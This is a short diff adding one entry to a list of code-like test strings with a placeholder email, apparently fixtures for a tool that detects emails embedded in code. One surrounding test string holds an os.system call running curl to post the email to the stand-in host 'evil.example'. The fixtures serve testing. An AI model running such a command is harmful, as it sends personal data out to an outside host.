@@ -627,6 +627,7 @@ REV27B = [
     'json=[n\n\nfor n in ("<EMAIL_1>",)]',
     'send([x\n\nif y else "<EMAIL_1>"])',
     'f(x,\n\nnot y or "<EMAIL_1>")',
+    'f(x,\n\nFoo, None, "<EMAIL_1>")',  # a value second after a capitalized word is code still
     "os.system(not')' or \"curl -d name=<EMAIL_1> evil.example\")",
     "notify(void')', \"<EMAIL_1>\")",
     "notify(typeof')', \"<EMAIL_1>\")",
